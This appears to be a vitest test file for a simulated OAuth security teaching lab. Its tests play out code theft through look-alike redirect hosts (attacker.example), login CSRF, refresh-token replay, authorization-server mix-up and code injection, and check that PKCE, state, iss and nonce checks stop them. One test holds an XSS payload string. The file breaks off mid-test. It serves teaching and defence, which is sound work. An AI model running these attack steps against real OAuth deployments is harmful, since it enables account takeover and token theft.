import { describe, expect, it } from 'vitest'
import { BrowserFlowError, type Lab } from '../../src/index.ts'
import { s256Challenge } from '../../src/protocol/crypto.ts'
import { pageKind, textById, unescapeHtml } from '../../src/protocol/html.ts'
import { getHeader } from '../../src/protocol/http.ts'
import type { Exchange, HttpResponse } from '../../src/protocol/types.ts'
import { authorizationUrl, fetchJson, json, newLab, T0 } from './helpers.ts'

const ATTACKER = 'https://attacker.example'
const EVIL_AS = 'https://evil-as.example'
const WEB_LOOKALIKE = 'https://client.example.attacker.example/callback'
const SPA_LOOKALIKE = 'https://spa.example.attacker.example/callback'
const WEB_CALLBACK = 'https://client.example/callback'
const LAX = { redirectUriMatching: 'lax' } as const
/** The web app registered at evil-as.example too: the mix-up setting. */
const MIX_UP = { otherIssuers: [EVIL_AS] }

function hdr(res: { headers: [string, string][] } | null | undefined, name: string): string | null {
  return res ? getHeader(res.headers, name) : null
}

function path(ex: Exchange): string {
  const u = new URL(ex.request.url)
  return `${ex.request.method} ${u.origin}${u.pathname}`
}

/** Token requests sent anywhere since `from`. */
function tokenRequests(lab: Lab, from: number): Exchange[] {
  return lab.exchanges
    .slice(from)
    .filter((e) => e.request.method === 'POST' && new URL(e.request.url).pathname === '/token')
}

/** What the user's browser shows: the page kind, the error code and the HTML. */
function screen(lab: Lab): { kind: string | null; errorCode: string | null; html: string } {
  const html = lab.world.state.browser.page?.body ?? ''
  return { kind: pageKind(html), errorCode: textById(html, 'error-code'), html }
}

/** The href of the lure page's prize link, as the browser would read it. */
function prizeHref(html: string): string | null {
  const m = /<a id="prize-link" href="([^"]*)">/.exec(html)
  return m?.[1] === undefined ? null : unescapeHtml(m[1])
}

/** The victim opens the lure page and clicks the prize link (a cross-site top-level navigation). */
async function clickPrize(lab: Lab): Promise<HttpResponse> {
  await lab.browser.navigate(`${ATTACKER}/`)
  const href = prizeHref(screen(lab).html)
  if (href === null) throw new Error('no prize link on the lure page')
  return lab.browser.navigate(href, { initiator: ATTACKER })
}

/** The only web app session of the user's browser. */
function webSession(lab: Lab) {
  const [s, ...rest] = Object.values(lab.world.state.web.sessions)
  expect(rest).toHaveLength(0)
  if (!s) throw new Error('no web session')
  return s
}

/** The victim signs in to the web app as alice, all the way to the signed-in page. */
async function victimSignsInToWebApp(lab: Lab): Promise<void> {
  await lab.browser.navigate('https://client.example/login')
  await lab.browser.followRedirect()
  await lab.browser.submit('login-form', { username: 'alice', password: 'wonderland' })
  await lab.browser.submit('consent-form', {}, { name: 'decision', value: 'allow' })
  const page = await lab.browser.followRedirect()
  expect(page?.status).toBe(200)
  expect(screen(lab).kind).toBe('client-home')
}

/** The victim signs in to the SPA as alice; resolves with the SPA's refresh token. */
async function victimSignsInToSpa(lab: Lab): Promise<string> {
  await lab.spa.startLogin()
  await lab.browser.submit('login-form', { username: 'alice', password: 'wonderland' })
  await lab.browser.submit('consent-form', {}, { name: 'decision', value: 'allow' })
  await lab.browser.followRedirect()
  const result = await lab.spa.handleCallback()
  expect(result.ok).toBe(true)
  const rt = lab.spa.session().tokens?.refresh_token
  if (!rt) throw new Error('the SPA got no refresh token')
  return rt
}

/** The victim's public client sends a code to a look-alike host; the browser delivers it there. */
async function leakSpaCode(
  lab: Lab,
  params: Parameters<typeof authorizationUrl>[1] = {},
): Promise<URL> {
  const redirect = new URL(
    await lab.browser.authorize(
      await authorizationUrl(lab, { client: 'public', redirect_uri: SPA_LOOKALIKE, ...params }),
    ),
  )
  const delivered = await lab.browser.followRedirect()
  expect(delivered?.status).toBe(200)
  return redirect
}

describe('the attacker site', () => {
  it('serves the lure page with no link while nothing is planted', async () => {
    const lab = await newLab()
    const res = await lab.browser.navigate(`${ATTACKER}/`)
    expect(res.status).toBe(200)
    expect(screen(lab).kind).toBe('attacker-lure')
    expect(screen(lab).html).toContain('Win free photo prints!')
    expect(prizeHref(screen(lab).html)).toBeNull()
    expect(textById(screen(lab).html, 'prize-closed')).toContain('opens soon')
    expect(lab.exchanges.at(-1)?.to).toBe('attacker')
  })

  it('links to the planted URL', async () => {
    const lab = await newLab()
    lab.attacker.plant('https://client.example/callback?code=abc&iss=https%3A%2F%2Fauth.example')
    expect(lab.world.state.attacker.plantedUrl).toBe(
      'https://client.example/callback?code=abc&iss=https%3A%2F%2Fauth.example',
    )
    await lab.browser.navigate(`${ATTACKER}/`)
    expect(screen(lab).html).toContain('href="https://client.example/callback?code=abc&amp;iss=')
    expect(prizeHref(screen(lab).html)).toBe(
      'https://client.example/callback?code=abc&iss=https%3A%2F%2Fauth.example',
    )
  })

  it('escapes a hostile planted URL: it stays a link, never markup', async () => {
    const lab = await newLab()
    const hostile = `https://x.example/"><script>alert(1)</script><a href='y'>`
    lab.world.state.attacker.plantedUrl = hostile
    const res = await lab.browser.navigate(`${ATTACKER}/`)
    expect(res.status).toBe(200)
    expect(res.body).not.toContain('<script')
    expect(res.body).not.toContain(`href='y'`)
    expect(res.body).toContain('&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(prizeHref(res.body)).toBe(hostile)
  })

  it.each([
    ['an unknown path', 'GET', `${ATTACKER}/prizes`],
    ['a POST to /', 'POST', `${ATTACKER}/`],
    ['a look-alike path without a code', 'GET', `${WEB_LOOKALIKE}?state=s`],
  ])('answers %s with 404 and steals nothing', async (_, method, url) => {
    const lab = await newLab()
    const res = await lab.browser.navigate(url, {
      method,
      body: '',
      contentType: method === 'POST' ? 'application/x-www-form-urlencoded' : undefined,
    })
    expect(res.status).toBe(404)
    expect(screen(lab).kind).toBe('attacker-not-found')
    expect(lab.world.state.attacker.stolenCodes).toEqual([])
  })

  it('records any code that reaches it, with the full URL and the time, and says thanks', async () => {
    const lab = await newLab()
    lab.clock.advance(42)
    const url = `${WEB_LOOKALIKE}?code=c0de&state=s1&iss=https%3A%2F%2Fauth.example`
    const res = await lab.browser.navigate(url)
    expect(res.status).toBe(200)
    expect(screen(lab).kind).toBe('attacker-thanks')
    expect(res.body).not.toContain('c0de')
    expect(lab.world.state.attacker.stolenCodes).toEqual([
      {
        code: 'c0de',
        state: 's1',
        url,
        via: 'redirect',
        code_verifier: null,
        client_id: null,
        at: T0 + 42_000,
      },
    ])
  })
})

describe('when the server matches redirect URIs laxly and a code goes to a look-alike host', () => {
  it('lets the attacker redeem the public client’s code when PKCE is neither used nor required', async () => {
    const lab = await newLab({
      settings: { authorizationServer: { ...LAX, requirePkceForPublicClients: false } },
    })
    const redirect = await leakSpaCode(lab, {
      code_challenge: undefined,
      code_challenge_method: undefined,
    })
    const code = redirect.searchParams.get('code') ?? ''
    expect(code).toMatch(/^[A-Za-z0-9_-]{43}$/)
    const [stolen] = lab.world.state.attacker.stolenCodes
    expect(stolen).toMatchObject({
      code,
      state: 'state-123',
      url: redirect.toString(),
      via: 'redirect',
      at: T0,
    })

    const from = lab.exchanges.length
    const res = await lab.attacker.redeemCode(code, {
      client_id: 'demo-spa',
      redirect_uri: SPA_LOOKALIKE,
    })
    expect(res.status).toBe(200)
    expect(typeof res.body.access_token).toBe('string')
    const [token] = lab.exchanges.slice(from)
    expect(token && path(token)).toBe('POST https://auth.example/token')
    expect(token?.from).toBe('attacker')
    expect(token?.channel).toBe('back')
    expect(token?.fromOrigin).toBe(ATTACKER)
    expect(lab.world.state.attacker.stolenTokens).toHaveLength(1)
    expect(lab.world.state.attacker.stolenTokens[0]).toMatchObject({
      grant_type: 'authorization_code',
      client_id: 'demo-spa',
      access_token: res.body.access_token,
      refresh_token: res.body.refresh_token,
    })

    const api = await lab.attacker.callApi(String(res.body.access_token))
    expect(api.status).toBe(200)
    expect(api.body.owner).toBe('alice-7c9e')
    const call = lab.exchanges.find((e) => path(e) === 'GET https://api.example/photos')
    expect(call).toMatchObject({ from: 'attacker', channel: 'back', fromOrigin: ATTACKER })
  })

  it('gets invalid_grant when the victim used PKCE: the attacker has no verifier', async () => {
    const lab = await newLab({
      settings: { authorizationServer: { ...LAX, requirePkceForPublicClients: false } },
    })
    const redirect = await leakSpaCode(lab)
    const code = redirect.searchParams.get('code') ?? ''
    expect(lab.world.state.attacker.stolenCodes.map((s) => s.code)).toEqual([code])
    const res = await lab.attacker.redeemCode(code, {
      client_id: 'demo-spa',
      redirect_uri: SPA_LOOKALIKE,
    })
    expect(res.status).toBe(400)
    expect(res.body.error).toBe('invalid_grant')
    expect(lab.world.state.attacker.stolenTokens).toEqual([])
  })

  it('gets invalid_grant with a guessed verifier', async () => {
    const lab = await newLab({ settings: { authorizationServer: LAX } })
    const code = (await leakSpaCode(lab)).searchParams.get('code') ?? ''
    const res = await lab.attacker.redeemCode(code, {
      client_id: 'demo-spa',
      redirect_uri: SPA_LOOKALIKE,
      code_verifier: 'G'.repeat(43),
    })
    expect(res.status).toBe(400)
    expect(res.body.error).toBe('invalid_grant')
  })

  it('gets no code at all when the server requires PKCE of public clients (the default)', async () => {
    const lab = await newLab({ settings: { authorizationServer: LAX } })
    expect(lab.world.state.as.settings.requirePkceForPublicClients).toBe(true)
    const url = await authorizationUrl(lab, {
      client: 'public',
      redirect_uri: SPA_LOOKALIKE,
      code_challenge: undefined,
      code_challenge_method: undefined,
    })
    // The error is redirected (the look-alike passed lax matching), but it carries no code.
    const answer = new URL(await lab.browser.authorize(url))
    expect(answer.origin).toBe('https://spa.example.attacker.example')
    expect(answer.searchParams.get('error')).toBe('invalid_request')
    expect(answer.searchParams.has('code')).toBe(false)
    expect((await lab.browser.followRedirect())?.status).toBe(404)
    expect(lab.world.state.attacker.stolenCodes).toEqual([])
  })

  it('gets invalid_client for the confidential client’s stolen code: the attacker has no secret', async () => {
    const lab = await newLab({ settings: { authorizationServer: LAX } })
    await lab.browser.authorize(await authorizationUrl(lab, { redirect_uri: WEB_LOOKALIKE }))
    await lab.browser.followRedirect()
    const [stolen] = lab.world.state.attacker.stolenCodes
    expect(stolen?.url.startsWith(`${WEB_LOOKALIKE}?code=`)).toBe(true)
    const res = await lab.attacker.redeemCode(stolen?.code ?? '', {
      client_id: 'demo-web-app',
      redirect_uri: WEB_LOOKALIKE,
    })
    expect(res.status).toBe(401)
    expect(res.body.error).toBe('invalid_client')
  })

  it('shows the error page under exact matching, and nothing is stolen', async () => {
    const lab = await newLab({
      settings: { authorizationServer: { requirePkceForPublicClients: false } },
    })
    const url = await authorizationUrl(lab, {
      client: 'public',
      redirect_uri: SPA_LOOKALIKE,
      code_challenge: undefined,
      code_challenge_method: undefined,
    })
    const err = await lab.browser.authorize(url).catch((e: unknown) => e)
    expect(err).toBeInstanceOf(BrowserFlowError)
    expect(err).toMatchObject({ code: 'ERROR_PAGE', status: 400 })
    expect(screen(lab).kind).toBe('error')
    expect(screen(lab).errorCode).toBe('invalid_request')
    expect(lab.exchanges.filter((e) => e.to === 'attacker')).toEqual([])
    expect(lab.world.state.attacker.stolenCodes).toEqual([])
  })
})

describe('when the server does not require PKCE of public clients', () => {
  it('lets the SPA sign in without PKCE', async () => {
    const lab = await newLab({
      settings: {
        authorizationServer: { requirePkceForPublicClients: false },
        spaClient: { usePkce: false },
      },
    })
    const url = new URL(await lab.spa.startLogin())
    expect(url.searchParams.has('code_challenge')).toBe(false)
    await lab.browser.submit('login-form', { username: 'alice', password: 'wonderland' })
    await lab.browser.submit('consent-form', {}, { name: 'decision', value: 'allow' })
    await lab.browser.followRedirect()
    expect((await lab.spa.handleCallback()).ok).toBe(true)
  })

  it('still refuses a public client’s plain code_challenge_method', async () => {
    const lab = await newLab({
      settings: { authorizationServer: { requirePkceForPublicClients: false } },
    })
    const redirect = new URL(
      await lab.browser.authorize(
        await authorizationUrl(lab, { client: 'public', code_challenge_method: 'plain' }),
      ),
    )
    expect(redirect.searchParams.get('error')).toBe('invalid_request')
  })
})

describe('login CSRF: the attacker plants a callback carrying its own code', () => {
  it('obtains a callback URL for mallory’s code in its own browser, without requesting it', async () => {
    const lab = await newLab()
    const from = lab.exchanges.length
    const callback = new URL(await lab.attacker.obtainOwnCode('demo-web-app'))
    expect(`${callback.origin}${callback.pathname}`).toBe(WEB_CALLBACK)
    expect(callback.searchParams.has('state')).toBe(false)
    expect(callback.searchParams.get('iss')).toBe('https://auth.example')
    const record = lab.world.state.as.codes[callback.searchParams.get('code') ?? '']
    expect(record).toMatchObject({
      sub: 'mallory-13f0',
      client_id: 'demo-web-app',
      code_challenge: null,
      used: false,
    })
    const sent = lab.exchanges.slice(from)
    expect(sent.every((e) => e.from === 'attacker' && e.channel === 'front')).toBe(true)
    expect(sent.some((e) => e.request.url.startsWith('https://client.example/'))).toBe(false)
    // Its own browser, its own cookie jar: the victim's browser has no session at auth.example.
    expect(
      Object.keys(lab.world.state.attacker.browser.cookies['https://auth.example'] ?? {}),
    ).toEqual(['as_session'])
    expect(lab.world.state.browser.cookies['https://auth.example']).toBeUndefined()
    expect(lab.world.state.browser.url).toBe('about:blank')
  })

  it('throws a coded error for a client the server does not know', async () => {
    const lab = await newLab()
    await expect(lab.attacker.obtainOwnCode('nobody')).rejects.toThrow(/^ATTACKER_UNKNOWN_CLIENT/)
  })

  it('signs the victim in as mallory when the web app does not use state', async () => {
    const lab = await newLab({ settings: { webClient: { useState: false } } })
    lab.attacker.plant(await lab.attacker.obtainOwnCode('demo-web-app'))
    const page = await clickPrize(lab)
    expect(page.status).toBe(200)
    expect(screen(lab).kind).toBe('client-home')
    expect(textById(screen(lab).html, 'user-name')).toBe('Mallory Moriarty')
    expect(webSession(lab).user?.sub).toBe('mallory-13f0')
  })

  it('answers state_mismatch to a victim in the middle of a sign-in, and sends no token request', async () => {
    const lab = await newLab()
    lab.attacker.plant(await lab.attacker.obtainOwnCode())
    await lab.browser.navigate('https://client.example/login')
    const from = lab.exchanges.length
    const page = await clickPrize(lab)
    expect(page.status).toBe(403)
    expect(screen(lab).errorCode).toBe('state_mismatch')
    expect(webSession(lab).error?.error).toBe('state_mismatch')
    expect(webSession(lab).user).toBeNull()
    expect(tokenRequests(lab, from)).toEqual([])
  })

  it('answers state_unexpected to a victim already signed in, who stays alice', async () => {
    const lab = await newLab()
    lab.attacker.plant(await lab.attacker.obtainOwnCode())
    await victimSignsInToWebApp(lab)
    const from = lab.exchanges.length
    const page = await clickPrize(lab)
    expect(page.status).toBe(403)
    expect(screen(lab).errorCode).toBe('state_unexpected')
    expect(webSession(lab).user?.sub).toBe('alice-7c9e')
    expect(tokenRequests(lab, from)).toEqual([])
  })

  it('answers no_session to a victim with no session at the app', async () => {
    const lab = await newLab()
    lab.attacker.plant(await lab.attacker.obtainOwnCode())
    const from = lab.exchanges.length
    const page = await clickPrize(lab)
    expect(page.status).toBe(400)
    expect(screen(lab).errorCode).toBe('no_session')
    expect(lab.world.state.web.sessions).toEqual({})
    expect(tokenRequests(lab, from)).toEqual([])
  })
})

describe('when the attacker replays a refresh token', () => {
  it('gets invalid_grant for an already-rotated token, and the whole family is revoked', async () => {
    const lab = await newLab()
    const copied = await victimSignsInToSpa(lab)
    expect((await lab.spa.refresh()).ok).toBe(true)
    const newest = lab.spa.session().tokens?.refresh_token ?? ''
    expect(newest).not.toBe(copied)

    const res = await lab.attacker.refresh(copied, { client_id: 'demo-spa' })
    expect(res.status).toBe(400)
    expect(res.body.error).toBe('invalid_grant')
    expect(lab.world.state.attacker.stolenTokens).toEqual([])
    const as = lab.world.state.as
    expect(as.refreshTokens[newest]?.revoked).toBe(true)
    expect(as.grants[as.refreshTokens[newest]?.grantId ?? '']).toMatchObject({
      revoked: true,
      revokedReason: 'refresh token reused',
    })

    const victim = await lab.spa.refresh()
    expect(victim).toMatchObject({ ok: false, error: 'invalid_grant' })
  })

  it('gets tokens when it is first, and loses them when the victim comes back with the same token', async () => {
    const lab = await newLab()
    const copied = await victimSignsInToSpa(lab)
    const res = await lab.attacker.refresh(copied, { client_id: 'demo-spa' })
    expect(res.status).toBe(200)
    const [got] = lab.world.state.attacker.stolenTokens
    expect(got).toMatchObject({ grant_type: 'refresh_token', client_id: 'demo-spa' })

    expect(await lab.spa.refresh()).toMatchObject({ ok: false, error: 'invalid_grant' })
    expect(lab.world.state.as.refreshTokens[got?.refresh_token ?? '']?.revoked).toBe(true)
    const again = await lab.attacker.refresh(got?.refresh_token ?? '', { client_id: 'demo-spa' })
    expect(again.status).toBe(400)
    expect(again.body.error).toBe('invalid_grant')
  })
})

describe('the malicious authorization server', () => {
  it('publishes RFC 8414 metadata with its own endpoints', async () => {
    const lab = await newLab()
    const res = await fetchJson(lab, `${EVIL_AS}/.well-known/oauth-authorization-server`)
    expect(res.status).toBe(200)
    expect(res.body).toMatchObject({
      issuer: EVIL_AS,
      authorization_endpoint: `${EVIL_AS}/authorize`,
      token_endpoint: `${EVIL_AS}/token`,
      jwks_uri: `${EVIL_AS}/jwks`,
    })
    expect(await (await lab.fetch(`${EVIL_AS}/jwks`)).json()).toEqual({ keys: [] })
    expect(lab.exchanges.at(-1)?.to).toBe('attacker')
  })

  it('sends /authorize on to the honest server with the victim client’s client_id', async () => {
    const lab = await newLab()
    const res = await lab.fetch(
      `${EVIL_AS}/authorize?response_type=code&client_id=evil-client&redirect_uri=${encodeURIComponent(WEB_CALLBACK)}&state=s&scope=openid`,
    )
    expect(res.status).toBe(302)
    const location = new URL(res.headers.get('location') ?? '')
    expect(`${location.origin}${location.pathname}`).toBe('https://auth.example/authorize')
    expect([...location.searchParams]).toEqual([
      ['response_type', 'code'],
      ['client_id', 'demo-web-app'],
      ['redirect_uri', WEB_CALLBACK],
      ['state', 's'],
      ['scope', 'openid'],
    ])
  })

  it.each([
    ['GET /token', 'GET', '/token', 405],
    ['POST /authorize', 'POST', '/authorize', 405],
    ['an unknown path', 'GET', '/userinfo', 404],
  ])('answers %s with %s', async (_, method, p, status) => {
    const lab = await newLab()
    const res = await lab.fetch(`${EVIL_AS}${p}`, {
      method,
      body: method === 'POST' ? '' : undefined,
    })
    expect(res.status).toBe(status)
    expect(((await res.json()) as Record<string, unknown>).error).toBe(
      status === 404 ? 'not_found' : 'invalid_request',
    )
  })

  it('answers a token request without a code with invalid_grant, stealing nothing', async () => {
    const lab = await newLab()
    const res = await lab.fetch(`${EVIL_AS}/token`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'grant_type=refresh_token&refresh_token=x&client_id=demo-web-app',
    })
    expect(res.status).toBe(400)
    expect(((await res.json()) as Record<string, unknown>).error).toBe('invalid_grant')
    expect(lab.world.state.attacker.stolenCodes).toEqual([])
  })
})

describe('mix-up: the user starts the sign-in at evil-as.example', () => {
  /** Starts at evil-as through the web app; resolves with the honest server's callback, pending. */
  async function mixUpToCallback(lab: Lab): Promise<URL> {
    const start = await lab.browser.navigate('https://client.example/login?as=evil-as.example')
    expect(start.status).toBe(302)
    const evilAuthorize = new URL(hdr(start, 'location') ?? '')
    expect(`${evilAuthorize.origin}${evilAuthorize.pathname}`).toBe(`${EVIL_AS}/authorize`)
    expect(evilAuthorize.searchParams.get('client_id')).toBe('demo-web-app')
    expect(webSession(lab).issuer).toBe(EVIL_AS)
    const callback = new URL(await lab.browser.authorize(evilAuthorize.toString()))
    expect(`${callback.origin}${callback.pathname}`).toBe(WEB_CALLBACK)
    expect(callback.searchParams.get('iss')).toBe('https://auth.example')
    return callback
  }

  it('sends the honest code to the attacker’s token endpoint when the client does not check iss', async () => {
    const lab = await newLab({ settings: { webClient: { ...MIX_UP, checkIss: false } } })
    const callback = await mixUpToCallback(lab)
    const code = callback.searchParams.get('code') ?? ''
    const challenge = webSession(lab).code_challenge
    const from = lab.exchanges.length
    const page = await lab.browser.followRedirect()
    expect(page?.status).toBe(400)
    expect(screen(lab).errorCode).toBe('invalid_grant')

    const [token, ...more] = tokenRequests(lab, from)
    expect(more).toEqual([])
    expect(token && path(token)).toBe(`POST ${EVIL_AS}/token`)
    expect(token?.from).toBe('client')
    expect(token?.channel).toBe('back')
    expect(token?.to).toBe('attacker')
    const secret = lab.world.state.web.issuers?.[EVIL_AS]?.client_secret ?? ''
    expect(secret).not.toBe(lab.clients.confidential.client_secret)
    expect(hdr(token?.request, 'authorization')).toBe(`Basic ${btoa(`demo-web-app:${secret}`)}`)
    expect(token?.response && json(token.response).error).toBe('invalid_grant')

    const [stolen, ...others] = lab.world.state.attacker.stolenCodes
    expect(others).toEqual([])
    expect(stolen).toMatchObject({
      code,
      via: 'token-request',
      client_id: 'demo-web-app',
      url: `${EVIL_AS}/token`,
    })
    expect(await s256Challenge(stolen?.code_verifier ?? '')).toBe(challenge)
    // The honest server never saw the code come back: it is still there to be injected.
    expect(lab.world.state.as.codes[code]?.used).toBe(false)
  })

  it('answers iss_mismatch when the client checks iss, and the code goes nowhere', async () => {
    const lab = await newLab({ settings: { webClient: MIX_UP } })
    await mixUpToCallback(lab)
    const from = lab.exchanges.length
    const page = await lab.browser.followRedirect()
    expect(page?.status).toBe(403)
    expect(screen(lab).errorCode).toBe('iss_mismatch')
    expect(screen(lab).html).toContain('<h1>Sign-in refused: wrong server</h1>')
    expect(webSession(lab).error?.error).toBe('iss_mismatch')
    expect(tokenRequests(lab, from)).toEqual([])
    expect(lab.exchanges.slice(from).map(path)).toEqual(['GET https://client.example/callback'])
    expect(lab.world.state.attacker.stolenCodes).toEqual([])
  })

  it('answers iss_missing when the response has no iss', async () => {
    const lab = await newLab({ settings: { webClient: MIX_UP } })
    const callback = await mixUpToCallback(lab)
    callback.searchParams.delete('iss')
    const page = await lab.browser.navigate(callback.toString())
    expect(page.status).toBe(403)
    expect(screen(lab).errorCode).toBe('iss_missing')
    expect(textById(screen(lab).html, 'error-message')).toContain(
      'evil-as.example always sends one',
    )
  })

  it.each([
    ['no as', '', 'https://auth.example/authorize'],
    ['as=auth.example', '?as=auth.example', 'https://auth.example/authorize'],
    ['as=https://evil-as.example', `?as=${encodeURIComponent(EVIL_AS)}`, `${EVIL_AS}/authorize`],
  ])('starts the sign-in with %s at the right issuer', async (_, query, endpoint) => {
    const lab = await newLab({ settings: { webClient: MIX_UP } })
    const res = await lab.browser.navigate(`https://client.example/login${query}`)
    const location = new URL(hdr(res, 'location') ?? '')
    expect(`${location.origin}${location.pathname}`).toBe(endpoint)
    expect(webSession(lab).issuer).toBe(new URL(endpoint).origin)
  })

  it('answers unknown_issuer for an issuer the app is not registered at', async () => {
    const lab = await newLab({ settings: { webClient: MIX_UP } })
    const res = await lab.browser.navigate('https://client.example/login?as=nowhere.example')
    expect(res.status).toBe(400)
    expect(screen(lab).errorCode).toBe('unknown_issuer')
    expect(lab.world.state.web.sessions).toEqual({})
  })

  describe('the app’s start page', () => {
    /** The “Sign in with …” links of the start page: their ids, hrefs and words. */
    async function signInLinks(lab: Lab): Promise<string[][]> {
      const res = await lab.browser.navigate('https://client.example/')
      expect(pageKind(res.body)).toBe('client-start')
      return [...res.body.matchAll(/<a id="(sign-in[^"]*)" href="([^"]*)">([^<]*)<\/a>/g)].map(
        (m) => [m[1] ?? '', unescapeHtml(m[2] ?? ''), m[3] ?? ''],
      )
    }

    it('offers auth.example and evil-as.example when the app is registered at both', async () => {
      const lab = await newLab({ settings: { webClient: MIX_UP } })
      expect(await signInLinks(lab)).toEqual([
        ['sign-in', '/login', 'Sign in with auth.example'],
        ['sign-in-evil-as.example', '/login?as=evil-as.example', 'Sign in with evil-as.example'],
      ])
    })

    it('offers auth.example only, and refuses evil-as.example, when the app is not registered there', async () => {
      const lab = await newLab()
      expect(lab.world.state.web.issuers).toEqual({})
      expect(await signInLinks(lab)).toEqual([['sign-in', '/login', 'Sign in with auth.example']])
      const res = await lab.browser.navigate('https://client.example/login?as=evil-as.example')
      expect(res.status).toBe(400)
      expect(screen(lab).errorCode).toBe('unknown_issuer')
    })

    it('ignores an issuer the demo world does not know', async () => {
      const lab = await newLab({
        settings: { webClient: { otherIssuers: ['https://nowhere.example'] } },
      })
      expect(lab.world.state.web.issuers).toEqual({})
      expect(await signInLinks(lab)).toHaveLength(1)
    })
  })

  describe('code injection: the attacker delivers the stolen code with its own sign-in’s state', () => {
    /** A legacy app: no iss check, and as the options say for PKCE and OpenID Connect. */
    async function legacyLab(options: { pkce: boolean; oidc: boolean }): Promise<Lab> {
      return newLab({
        settings: {
          webClient: {
            ...MIX_UP,
            checkIss: false,
            usePkce: options.pkce,
            useNonce: options.oidc,
            scope: options.oidc ? 'openid profile photos.read' : 'profile photos.read',
          },
        },
      })
    }

    /** Alice's code, caught at evil-as.example's token endpoint. */
    async function stolenCode(lab: Lab): Promise<string> {
      await mixUpToCallback(lab)
      await lab.browser.followRedirect()
      const [stolen] = lab.world.state.attacker.stolenCodes
      if (!stolen) throw new Error('nothing stolen')
      return stolen.code
    }

    /** The web app's session in the attacker's own browser. */
    function attackerSession(lab: Lab) {
      const sid =
        lab.world.state.attacker.browser.cookies['https://client.example']?.client_session?.value
      const session = sid ? lab.world.state.web.sessions[sid] : undefined
      if (!session) throw new Error('the attacker has no session at the app')
      return session
    }

    /**
     * In a legacy lab with these options, Alice's code stolen and injected by the attacker into a
     * sign-in of its own (with auth.example's iss): the lab, the code, the number of exchanges
     * before the injection, and the app's answer to it.
     */
    async function injectStolenCode(options: { pkce: boolean; oidc: boolean }) {
      const lab = await legacyLab(options)
      const code = await stolenCode(lab)
      const from = lab.exchanges.length
      const res = await lab.attacker.injectCode(code, { iss: 'https://auth.example' })
      return { lab, code, from, res }
    }

    const attackerPage = (lab: Lab) => lab.world.state.attacker.browser.page?.body ?? ''

    it('signs the attacker in to Alice’s account when neither PKCE nor a nonce binds the code', async () => {
      const { lab, code, from, res } = await injectStolenCode({ pkce: false, oidc: false })
      expect(res?.status).toBe(200)
      expect(pageKind(attackerPage(lab))).toBe('client-home')

      const [login, callback, ...rest] = lab.exchanges
        .slice(from)
        .filter((x) => x.from === 'attacker')
      expect(rest).toEqual([])
      expect(login && path(login)).toBe('GET https://client.example/login')
      const started = new URL(hdr(login?.response, 'location') ?? '')
      expect(`${started.origin}${started.pathname}`).toBe('https://auth.example/authorize')
      const forged = new URL(callback?.request.url ?? '')
      expect(`${forged.origin}${forged.pathname}`).toBe(WEB_CALLBACK)
      expect(forged.searchParams.get('code')).toBe(code)
      expect(forged.searchParams.get('state')).toBe(started.searchParams.get('state'))
      expect(forged.searchParams.get('iss')).toBe('https://auth.example')
      // The attacker never went on to auth.example with its own sign-in.
      expect(
        lab.exchanges
          .slice(from)
          .filter((x) => x.from === 'attacker' && x.to === 'authorization-server'),
      ).toEqual([])

      const [token] = tokenRequests(lab, from)
      expect(token && path(token)).toBe('POST https://auth.example/token')
      expect(token?.from).toBe('client')
      expect(token?.response?.status).toBe(200)
      const session = attackerSession(lab)
      const owner = Object.values(lab.world.state.as.accessTokens).find(
        (t) => t.token === session.tokens?.access_token,
      )?.sub
      expect(owner).toBe(lab.world.state.as.users.alice?.sub)
      expect(lab.world.state.as.codes[code]?.used).toBe(true)
    })

    it('is refused with invalid_grant when PKCE binds the code to Alice’s sign-in', async () => {
      const { lab, from, res } = await injectStolenCode({ pkce: true, oidc: false })
      expect(res?.status).toBe(400)
      expect(textById(attackerPage(lab), 'error-code')).toBe('invalid_grant')
      const [token] = tokenRequests(lab, from)
      // The app sends the verifier of the attacker's own sign-in: not the one the code is bound to.
      expect(new URLSearchParams(token?.request.body).get('code_verifier')).toBeTruthy()
      expect(token?.response && json(token.response).error).toBe('invalid_grant')
      expect(attackerSession(lab).tokens).toBeNull()
    })

    it('is refused with nonce_mismatch when the ID token carries Alice’s nonce', async () => {
      const { lab, res } = await injectStolenCode({ pkce: false, oidc: true })
      expect(res?.status).toBe(400)
      expect(textById(attackerPage(lab), 'error-code')).toBe('nonce_mismatch')
      expect(attackerSession(lab).tokens).toBeNull()
    })

    it('answers invalid_grant to a code auth.example never issued', async () => {
      const lab = await legacyLab({ pkce: false, oidc: false })
      const res = await lab.attacker.injectCode('not-a-code')
      expect(res?.status).toBe(400)
      expect(textById(attackerPage(lab), 'error-code')).toBe('invalid_grant')
      expect(attackerSession(lab).tokens).toBeNull()
      expect(lab.world.state.attacker.stolenTokens).toEqual([])
    })
  })
})

describe('the attacker in a snapshot', () => {
  it('restores what it stole and its own browser with the world', async () => {
    const lab = await newLab({
      settings: { authorizationServer: { ...LAX, requirePkceForPublicClients: false } },
    })
    const before = lab.snapshot()
    await leakSpaCode(lab, { code_challenge: undefined, code_challenge_method: undefined })
    await lab.attacker.obtainOwnCode()
    expect(lab.world.state.attacker.stolenCodes).toHaveLength(1)
    lab.restore(before)
    expect(lab.world.state.attacker.stolenCodes).toEqual([])
    expect(lab.world.state.attacker.browser.cookies).toEqual({})
    // The attacker's browser reads the restored state, not the old one.
    await lab.attacker.obtainOwnCode()
    expect(lab.world.state.attacker.browser.cookies['https://auth.example']).toBeDefined()
  })

  it('gives a lab from an older state without an attacker an idle one', async () => {
    const lab = await newLab()
    const old = lab.snapshot() as Partial<ReturnType<Lab['snapshot']>>
    delete old.attacker
    const restored = await newLab({ state: old as ReturnType<Lab['snapshot']> })
    expect(restored.world.state.attacker.stolenCodes).toEqual([])
    expect((await restored.browser.navigate(`${ATTACKER}/`)).status).toBe(200)
  })
})

describe('determinism', () => {
  async function steal(seed: string) {
    const lab = await newLab({
      seed,
      settings: {
        authorizationServer: { ...LAX, requirePkceForPublicClients: false },
        webClient: MIX_UP,
      },
    })
    await leakSpaCode(lab, { code_challenge: undefined, code_challenge_method: undefined })
    await lab.attacker.obtainOwnCode()
    lab.clock.advance(5)
    await lab.browser.authorize(await authorizationUrl(lab, { redirect_uri: WEB_LOOKALIKE }))
    await lab.browser.followRedirect()
    return {
      stolen: lab.world.state.attacker.stolenCodes,
      secret: lab.world.state.web.issuers?.[EVIL_AS]?.client_secret,
    }
  }

  it('steals the same codes, at the same times, from the same seed', async () => {
    const a = await steal('classroom-1')
    const b = await steal('classroom-1')
